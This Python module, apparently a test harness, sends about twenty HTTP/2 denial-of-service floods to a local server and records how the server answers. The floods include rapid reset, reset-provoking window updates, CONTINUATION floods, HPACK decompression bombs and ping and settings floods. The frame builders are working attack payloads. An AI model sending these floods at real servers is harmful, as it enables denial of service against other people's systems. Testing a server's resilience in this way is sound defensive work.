"""How is one connection of HTTP/2 flooded? Frames in large writes, ten milliseconds' worth at a time; who is turned away comes
again with the next ones.
"""

import errno
import select
import socket
import struct
import time

import frames
from frames import DATA, END_HEADERS, END_STREAM, frame, headers, literal, request, window_update

SLICE = 0.01
# Another source than that of other clients: what it may have is its own.
ATTACKER = "127.0.0.2"
# What is not taken yet; a proxy that reads no further holds the flood back, which is an answer to it.
UNSENT = 256 * 1024
GET, UPLOAD = request(b"/orders/17"), request(b"/imports/1", b"POST")


class Connection:
    """What was sent on it, and what became of it."""

    def __init__(self, port, opening, reads):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(ATTACKER, 0))
        self.socket.setblocking(False)
        self.reads, self.reader, self.unsent = reads, frames.Reader(), opening
        self.stream, self.sent, self.said, self.resets, self.closed = 1, 0, None, {}, False

    def streams(self, number):
        """So many numbers of new streams."""
        first, self.stream = self.stream, self.stream + 2 * number
        return range(first, self.stream, 2)

    def push(self):
        try:
            while self.unsent:
                self.unsent = self.unsent[self.socket.send(self.unsent) :]
        except BlockingIOError:
            pass
        except OSError as error:
            self.end(errno.errorcode.get(error.errno, "error"))

    def pull(self):
        try:
            while self.reads and not self.closed:
                got = self.socket.recv(262144)
                if not got:
                    return self.end("closed")
                for kind, flags, _, payload in self.reader.frames(got):
                    self.take(kind, flags, payload)
        except BlockingIOError:
            pass
        except OSError as error:
            self.end(errno.errorcode.get(error.errno, "error"))

    def take(self, kind, flags, payload):
        if kind == frames.GOAWAY:
            self.said = f"GOAWAY {frames.code(payload[4:])}"
        elif kind == frames.RST_STREAM:
            code = frames.code(payload)
            self.resets[code] = self.resets.get(code, 0) + 1
        elif kind == frames.SETTINGS and not flags & frames.ACK:
            self.unsent += frame(frames.SETTINGS, frames.ACK)

    def end(self, why):
        self.closed, self.said = True, self.said or why

    def close(self):
        # Reset, so that thousands of them leave nothing behind.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.socket.close()


# === the floods: frames for so many units ===


def rapid_reset(connection, number):
    return b"".join(headers(stream, GET) + frames.reset(stream) for stream in connection.streams(number))


def made_reset_zero(connection, number):
    return b"".join(headers(stream, GET) + window_update(stream, 0) for stream in connection.streams(number))


def made_reset_overflow(connection, number):
    more = lambda stream: window_update(stream, frames.MAX_WINDOW)
    return b"".join(headers(stream, GET) + more(stream) for stream in connection.streams(number))


def bad_requests(connection, number):
    """A stream error each: connection-specific fields have no place in HTTP/2 (RFC 9113 §8.2.2)."""
    block = GET + literal(b"connection", b"close")
    return b"".join(headers(stream, block) for stream in connection.streams(number))


def requests_over(connection, number):
    """Far more streams at once than may be, none of them given up."""
    return b"".join(headers(stream, GET) for stream in connection.streams(number))


def same(octets):
    return lambda connection, number: octets * number


def settings_windows(connection, number):
    """Each changes the window of every open stream."""
    both = [frames.settings((frames.INITIAL_WINDOW_SIZE, size)) for size in (0, 1)]
    return (both[0] + both[1]) * (number // 2)


def priorities(connection, number):
    ids = connection.streams(number)
    return b"".join(frame(frames.PRIORITY, 0, one + 1000, struct.pack(">IB", one, 15)) for one in ids)


def pings(connection, number):
    return frame(frames.PING, payload=b"01234567") * number


def table_bombs(connection, number):
    """A field of 4,000 octets in the dynamic table, named by one octet 16,000 times: 64 MB from 16 KB."""
    first = frames.END_STREAM | END_HEADERS
    bomb = lambda stream: headers(stream, GET + b"\xbe" * 16_000, first)
    fill = b"" if connection.sent else headers(*[connection.streams(1)[0], GET + literal(b"x-bomb", b"a" * 3_900, 0x40)])
    return fill + b"".join(bomb(stream) for stream in connection.streams(number))


def long_lists(connection, number):
    """More than 64 KiB decoded, within the size of frames: it is to be refused, not to be kept."""
    block = GET + b"".join(literal(b"x-%d" % one, b"a" * 4_000) for one in range(20))
    rest = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
    later = lambda stream: b"".join(frame(frames.CONTINUATION, 0, stream, part) for part in rest[1:-1])
    last = lambda stream: frame(frames.CONTINUATION, END_HEADERS, stream, rest[-1])
    one = lambda stream: headers(stream, rest[0], END_STREAM) + later(stream) + last(stream)
    return b"".join(one(stream) for stream in connection.streams(number))


BEGIN = frames.begin() + window_update(0, 2**30)
OPEN_BODY = BEGIN + headers(1, UPLOAD, END_HEADERS)
OPEN_HEAD = BEGIN + headers(1, GET, END_STREAM)
# Answered, and kept open: there is no window for the answers.
WAITING = frames.begin((frames.INITIAL_WINDOW_SIZE, 0)) + b"".join(headers(one, GET) for one in range(1, 200, 2))
# Frames, what the connection begins with, and whether the attacker reads.
FLOODS = {
    "rapid-reset": (rapid_reset, BEGIN, True),
    "made-reset-zero": (made_reset_zero, BEGIN, True),
    "made-reset-overflow": (made_reset_overflow, BEGIN, True),
    "bad-requests": (bad_requests, BEGIN, True),
    "requests-over": (requests_over, frames.begin((frames.INITIAL_WINDOW_SIZE, 0)), True),
    "continuation": (same(frame(frames.CONTINUATION, 0, 1, literal(b"x-flood", b"0123456789"))), OPEN_HEAD, True),
    "continuation-empty": (same(frame(frames.CONTINUATION, 0, 1)), OPEN_HEAD, True),
    "data-empty": (same(frame(DATA, 0, 1)), OPEN_BODY, True),
    "data-one": (same(frame(DATA, 0, 1, b"x")), OPEN_BODY, True),
    "ping": (pings, BEGIN, True),
    "ping-unread": (pings, BEGIN, False),
    "ping-ack": (same(frame(frames.PING, frames.ACK, 0, b"01234567")), BEGIN, True),
    "settings": (same(frames.settings()), BEGIN, True),
    "settings-unread": (same(frames.settings()), BEGIN, False),
    "settings-windows": (settings_windows, WAITING, True),
    "window-update": (same(window_update(0, 1)), frames.begin(), True),
    "window-update-stream": (same(window_update(1, 1)), OPEN_BODY, True),
    "priority": (priorities, BEGIN, True),
    "unknown": (same(frame(0x42)), BEGIN, True),
    "hpack-table": (table_bombs, BEGIN, True),
    "hpack-list": (long_lists, BEGIN, True),
}


def run(flood, ports, count, seconds):
    make, opening, reads = FLOODS[flood]
    slices = max(1, int(seconds / SLICE))
    began, used, connection = time.monotonic(), [], None
    for turn in range(slices):
        number = count * (turn + 1) // slices - count * turn // slices
        if flood == "settings-windows":
            number = max(2, number)
        if connection is None or connection.closed:
            connection = Connection(ports["http2"], opening, reads)
            used.append(connection)
        if number and len(connection.unsent) < UNSENT:
            connection.unsent += make(connection, number)
            connection.sent += number
        until = began + (turn + 1) * SLICE
        while not connection.closed:
            connection.push()
            connection.pull()
            left = until - time.monotonic()
            if left <= 0:
                break
            select.select([connection.socket] if reads else [], [connection.socket] if connection.unsent else [], [], left)
        time.sleep(max(0, until - time.monotonic()))
    ended = time.monotonic()
    return told(used, began, ended)


def told(used, began, ended):
    first, last = used[0], used[-1]
    still = not last.closed
    resets = {}
    for connection in used:
        for code, number in connection.resets.items():
            resets[code] = resets.get(code, 0) + number
        connection.close()
    return {
        "began": began,
        "ended": ended,
        "sent": sum(one.sent for one in used),
        "connections": len(used),
        "fate": first.said if first.closed else "open",
        "after": first.sent if first.closed else None,
        "held_back": still and len(last.unsent) > 0,
        "resets": resets,
    }
